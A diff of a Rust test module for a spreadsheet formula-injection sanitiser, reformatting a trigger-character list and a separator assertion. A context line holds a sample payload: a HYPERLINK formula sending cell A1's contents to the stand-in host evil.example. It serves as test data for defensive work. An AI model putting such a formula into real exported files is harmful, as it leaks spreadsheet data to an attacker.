@@ -149,7 +149,9 @@ mod tests {
     fn formulas_are_neutralised_and_plain_numbers_kept() {
         let attack = r#"=HYPERLINK("http://evil.example/?x="&A1,"Apri")"#;
         assert_eq!(neutralise(attack), format!("'{attack}"));
-        for cell in ["+1+1", "-1+1", "@SUM(A1)", "\tx", "\r=1", "-A1", "-", "+", "-12,5 )"] {
+        for cell in [
+            "+1+1", "-1+1", "@SUM(A1)", "\tx", "\r=1", "-A1", "-", "+", "-12,5 )",
+        ] {
             assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
         }
         for cell in ["-12,5", "-12.5", "+3", "-0", "12", "", "testo", "'già"] {
@@ -167,7 +169,10 @@ mod tests {
         assert_eq!(Separator::parse(None), Ok(Separator::Comma));
         assert_eq!(Separator::parse(Some("")), Ok(Separator::Comma));
         assert_eq!(Separator::parse(Some(",")), Ok(Separator::Comma));
-        assert_eq!(Separator::parse(Some("semicolon")), Ok(Separator::Semicolon));
+        assert_eq!(
+            Separator::parse(Some("semicolon")),
+            Ok(Separator::Semicolon)
+        );
         assert_eq!(Separator::parse(Some(";")), Ok(Separator::Semicolon));
         assert!(Separator::parse(Some("tab")).is_err());
         assert_eq!(Separator::Semicolon.decimal("12.50"), "12,50");
